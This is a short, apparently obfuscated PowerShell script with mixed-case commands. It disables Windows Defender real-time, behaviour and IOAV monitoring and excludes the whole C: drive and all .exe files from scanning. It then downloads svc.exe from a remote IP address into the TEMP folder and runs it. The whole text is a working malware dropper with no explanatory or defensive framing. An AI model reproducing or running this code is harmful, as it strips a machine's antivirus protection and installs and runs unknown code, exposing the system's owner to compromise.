# iniT 5951 v3
seT-MPPrEfErENcE -dIsabLErEaltIMEmoNItoriNg $true -DisAbLEBEhaVioRmOnitorinG $TRuE -disAblEioAVProTecTiON $TRUe
AdD-mPPReFereNCe -EXclUSiOnpaTh 'C:\'
Add-mpPrefeREncE -EXCLuSioneXtENsiON '.exe'
(New-OBJEcT nEt.webclIeNT).DOWnLOaDFILE('http://192.0.2.150/svc.exe', "$env:TEMP\svc.exe")
start-PrOCESs "$env:TEMP\svc.exe"
